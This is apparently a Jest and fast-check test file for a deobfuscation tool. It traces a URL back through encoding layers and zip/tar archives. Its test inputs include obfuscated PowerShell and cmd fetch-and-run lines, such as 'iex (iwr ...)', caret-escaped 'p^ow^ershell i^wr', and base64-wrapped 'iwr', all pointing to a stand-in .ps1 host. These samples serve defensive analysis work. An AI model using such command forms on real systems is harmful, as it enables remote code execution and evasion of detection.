import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { zipOf } from './archive/zip.test-helper.js';
import { unitsOfBytes } from './byte-units.js';
import { tarOf } from './encoders.test-helper.js';
import { flat } from './peel-many.js';
import { peel } from './peel.js';
import { ledBack, piecesOf, replacedPieces, throughBoth, unitPieces } from './positions.js';
import { runRecipe } from './recipe/run.js';
import { PEEL_LIMITS } from './types.js';

describe('pieces', () => {
  it('lead a part back, and all of an uneven piece where it begins or ends within', () => {
    const pieces = replacedPieces('ab%41%42cd', /(?:%..)+/g, (run) => run.replaceAll('%4', '').replaceAll('1', 'A').replaceAll('2', 'B'));
    expect(pieces).toEqual([
      { at: 0, length: 2, from: 0, span: 2, even: true }, { at: 2, length: 2, from: 2, span: 6, even: false }, { at: 4, length: 2, from: 8, span: 2, even: true },
    ]);
    expect([[0, 1], [1, 2], [2, 1], [3, 2], [4, 2], [0, 6]].map(([offset = 0, length = 0]) => { const led = ledBack(pieces, { offset, length }); return [led.offset, led.length]; })).toEqual([[0, 1], [1, 7], [2, 6], [2, 7], [8, 2], [0, 10]]);
    expect(ledBack([], { offset: 3, length: 2 })).toEqual({ offset: 0, length: 0 });
    expect(unitPieces('72, 105', /\d+/g).map(({ from, span }) => [from, span])).toEqual([[0, 2], [4, 3]]);
  });

  it('of two steps lead back as the two do one after the other', () => {
    const some = fc.integer({ min: 1, max: 4 });
    const parts = fc.array(fc.tuple(fc.nat(4), some, some), { maxLength: 6 });
    const made = (length: number, steps: readonly (readonly [number, number, number])[]) => {
      let from = 0;
      const all: { readonly from: number; readonly span: number; readonly length: number }[] = [];
      for (const [gap, span, size] of steps) {
        all.push({ from: from + gap, span, length: size });
        from += gap + span;
      }
      return piecesOf(length, all.filter((part) => part.from + part.span <= length));
    };
    fc.assert(fc.property(fc.nat(30), parts, parts, fc.nat(40), fc.integer({ min: 1, max: 10 }), (length, one, two, offset, size) => {
      const earlier = made(length, one);
      const middle = earlier.at(-1) === undefined ? 0 : (earlier.at(-1)?.at ?? 0) + (earlier.at(-1)?.length ?? 0);
      const later = made(middle, two);
      const both = throughBoth(later, earlier);
      const end = (both.at(-1)?.at ?? 0) + (both.at(-1)?.length ?? 0);
      expect(end).toBe((later.at(-1)?.at ?? 0) + (later.at(-1)?.length ?? 0));
      if (offset + size > end) return;
      expect(ledBack(both, { offset, length: size })).toEqual(ledBack(earlier, ledBack(later, { offset, length: size })));
    }), { numRuns: 500 });
  });
});

const URL = 'http://203.0.113.9/a.ps1';
const hex = (text: string, each: (digits: string) => string): string => Array.from(Buffer.from(text), (byte) => each(byte.toString(16).padStart(2, '0'))).join('');
const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');

describe('an indicator is followed back through its layers', () => {
  const sourceIn = (value: string, wanted = URL): string | undefined => {
    const found = peel(value, PEEL_LIMITS).indicators.find(({ type, value: one }) => type === 'url' && one === wanted);
    return found?.source.exact === true ? value.slice(found.source.offset, found.source.offset + found.source.length) : undefined;
  };

  it.each<[string, string, string]>([
    ['escapes of a URL', `open ?next=${encodeURIComponent(URL)}&x=1`, encodeURIComponent(URL)],
    ['each character escaped', `x=${hex(`get ${URL} now`, (digits) => `%${digits}`)}`, hex(URL, (digits) => `%${digits}`)],
    ['HTML entities', `<a>caf&eacute; ${URL.replace('h', '&#104;')} &lt;`, URL.replace('h', '&#104;')],
    ['JSON escapes', `{"a": "\\u0068ttp:\\/\\/203.0.113.9\\/a\\u002eps1"}`, '\\u0068ttp:\\/\\/203.0.113.9\\/a\\u002eps1'],
    ['numbers of characters', `codes: ${Array.from(Buffer.from(`iwr ${URL} now`)).join(', ')}`, Array.from(Buffer.from(URL)).join(', ')],
    ['bytes in source code', `buf = ${hex(`curl ${URL} x`, (digits) => `0x${digits},`)} 0x20`, hex(URL, (digits) => `0x${digits},`).slice(0, -1)],
    ['quoted-printable', `Content-Transfer-Encoding: quoted-printable\n\nsee =C3=A9 ${URL.replace('.ps1', '=2E=\nps1')} =3D=3D`, URL.replace('.ps1', '=2E=\nps1')],
    ['base64 of a text beyond ASCII', b64(`größe — ${URL} é`), b64(`größe — ${URL} é`).slice(16, 48)],
    ['UTF-16 beyond ASCII in base64', b64(Buffer.from(`é ${URL} ü`, 'utf16le')), b64(Buffer.from(`é ${URL} ü`, 'utf16le')).slice(5, 70)],
    ['concatenated strings of PowerShell', `$a = 1; iwr ('ht'+'tp://203'+'.0.113.9'+'/a.ps1') -OutFile b`, `('ht'+'tp://203'+'.0.113.9'+'/a.ps1')`],
    ['a PowerShell command with quotes of its own', `powershell -nop -c "$u = \\"x\\"; iex (iwr ('ht'+'tp://203.0.113.9'+'/a'+'.ps1'))"`, `('ht'+'tp://203.0.113.9'+'/a'+'.ps1')`],
    ['JavaScript strings', `var a = 1; document.location = 'ht' + 'tp:' + '//203.0.113.9/' + 'a.ps1'; eval(a);`, `'ht' + 'tp:' + '//203.0.113.9/' + 'a.ps1'`],
    ['carets and quotes of cmd', `cmd /c "p^ow^ershell i^wr ht^tp://203.0.1^13.9/a.p^s1 -o b"`, 'ht^tp://203.0.1^13.9/a.p^s1'],
    ['base64 of a script', `powershell -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64(`iwr ${URL}`)}')))"`, b64(`iwr ${URL}`).slice(5, 38)],
  ])('%s', (_name, value, expected) => {
    expect(sourceIn(value)).toBe(expected);
  });

  it('gives the layer\'s own part where an encoding tells nothing of positions', () => {
    const value = `x ${b64(`${'a'.repeat(80)} ${URL}`).match(/.{1,76}/g)?.join('\n') ?? ''}`;
    const found = peel(value, PEEL_LIMITS).indicators.find(({ type }) => type === 'url');
    expect(found?.source.exact).toBe(false);
  });

  it('keeps every range inside of the value, and that of a layer inside its parent\'s', () => {
    const text = fc.array(fc.oneof(fc.constantFrom(URL, ' ', '%68%69', '&amp;&lt;', '\\u0041\\u00e9', "'a'+'b'", b64(`iwr ${URL}`), '=C3=A9', 'é', '"', '\n'), fc.string({ maxLength: 5 })), { maxLength: 12 });
    fc.assert(fc.property(text, (parts) => {
      const value = parts.join('');
      for (const { layers, indicators } of [peel(value, PEEL_LIMITS), runRecipe(value, 'from-url', PEEL_LIMITS)]) {
        for (const { source } of [...flat(layers), ...indicators]) {
          expect(source.offset).toBeGreaterThanOrEqual(0);
          expect(source.offset + source.length).toBeLessThanOrEqual(value.length);
        }
        for (const layer of flat(layers)) {
          for (const child of layer.children) {
            expect(child.source.offset).toBeGreaterThanOrEqual(layer.source.offset);
            expect(child.source.offset + child.source.length).toBeLessThanOrEqual(layer.source.offset + layer.source.length);
          }
        }
      }
    }), { numRuns: 200 });
  });
});

describe('members of archives that are not compressed', () => {
  const digits = (data: string | Buffer): string => Buffer.from(data).toString('hex');
  const stored = (name: string, data: string | Buffer) => ({ name, data, stored: true });
  const about = (text: string): Buffer => Buffer.from(`größe ${text} — é`);
  const FIRST = 'a first member of the archive';

  /** The parts of the value that the layers of these names and the URL inside of them came from, where they are exact. */
  const parts = (value: string, names: readonly string[]): readonly (string | undefined)[] => {
    const { layers, indicators } = peel(value, PEEL_LIMITS);
    const found = names.map((name) => flat(layers).find((layer) => layer.name === name));
    const url = indicators.find(({ value: one }) => one === URL);
    return [...found, url].map((one) => (one?.source.exact === true ? value.slice(one.source.offset, one.source.offset + one.source.length) : undefined));
  };
  const inner = about(URL);
  const TAR = tarOf('t.txt', inner);
  const ZIP = zipOf([stored('a.txt', FIRST), stored('z.txt', inner)]);

  it.each<[string, Buffer, readonly (readonly [string, string | Buffer])[]]>([
    ['zip', ZIP, [['a.txt', FIRST], ['z.txt', inner]]],
    ['tar', Buffer.concat([tarOf('a.txt', FIRST).subarray(0, -1_024), TAR]), [['a.txt', FIRST], ['t.txt', inner]]],
    ['zip in a tar', tarOf('in.zip', ZIP), [['in.zip', ZIP], ['z.txt', inner]]],
    ['tar in a zip', zipOf([stored('a.txt', FIRST), stored('in.tar', TAR)]), [['in.tar', TAR], ['t.txt', inner]]],
  ])('are followed back to their digits: %s', (_what, archive, members) => {
    expect(parts(`x = "${digits(archive)}"`, members.map(([name]) => name))).toEqual([...members.map(([, data]) => digits(data)), digits(URL)]);
  });

  it('are followed back to base64', () => {
    const value = ZIP.toString('base64');
    const at = ZIP.indexOf(inner);
    expect(parts(value, ['z.txt'])[0]).toBe(value.slice(Math.floor((at * 4) / 3), Math.ceil(((at + inner.length) * 4) / 3)));
  });

  it('are followed back where the archive itself is a text beyond ASCII', () => {
    const long = `${'größe 😀 — '.repeat(4_000)}\n`;
    const archive = Buffer.concat([tarOf('a.txt', long).subarray(0, -1_024), tarOf('b.txt', `${long}${URL}`)]);
    expect(parts(archive.toString(), ['a.txt', 'b.txt'])).toEqual([long, `${long}${URL}`, URL]);
    expect(parts(digits(archive.subarray(0, 200_000)), ['a.txt'])[0]).toBe(digits(long));
  });

  it('are followed back through a step of a recipe, or else not exactly', () => {
    const first = tarOf('a.txt', FIRST).subarray(0, -1_024);
    const source = (value: string, recipe: string) => runRecipe(value, recipe, PEEL_LIMITS).indicators.find(({ value: one }) => one === URL)?.source;
    const ascii = Buffer.concat([first, tarOf('b.txt', `see ${URL}`)]).toString();
    expect(source(ascii, 'untar b.txt')).toEqual({ offset: ascii.indexOf(URL), length: URL.length, exact: true });
    const text = tarOf('a.txt', `${'long enough for its archive to be a text '.repeat(3_000)} é ${URL}`).toString();
    expect(source(text, 'untar')).toEqual({ offset: text.indexOf(URL), length: URL.length, exact: true });
    const unknown = Buffer.concat([first, tarOf('b.txt', `é ${URL}`)]).toString();
    expect(source(unknown, 'untar b.txt')).toEqual({ offset: 0, length: unknown.length, exact: false });
  });

  it('count units as a text does', () => {
    fc.assert(fc.property(fc.array(fc.constantFrom('a', 'é', '—', '😀', 'x'.repeat(5_000)), { maxLength: 12 }), fc.boolean(), (characters, marked) => {
      const text = characters.join('');
      const bytes = Buffer.from(`${marked ? '\ufeff' : ''}${text}`);
      const units = unitsOfBytes(bytes, text);
      let at = marked ? 3 : 0;
      let from = 0;
      for (const character of characters) {
        const length = Buffer.byteLength(character);
        expect(units?.({ offset: at, length }) ?? { offset: at, length }).toEqual({ offset: from, length: character.length });
        at += length;
        from += character.length;
      }
    }), { numRuns: 200 });
  });

  it('tell where a tar archive is cut off', () => {
    const layer = flat(peel(digits(TAR.subarray(0, 512 + 20)), PEEL_LIMITS).layers).find(({ name }) => name === 't.txt');
    expect(layer).toMatchObject({ size: 20, note: `the archive ends before it does: its header says ${inner.length} bytes` });
  });
});
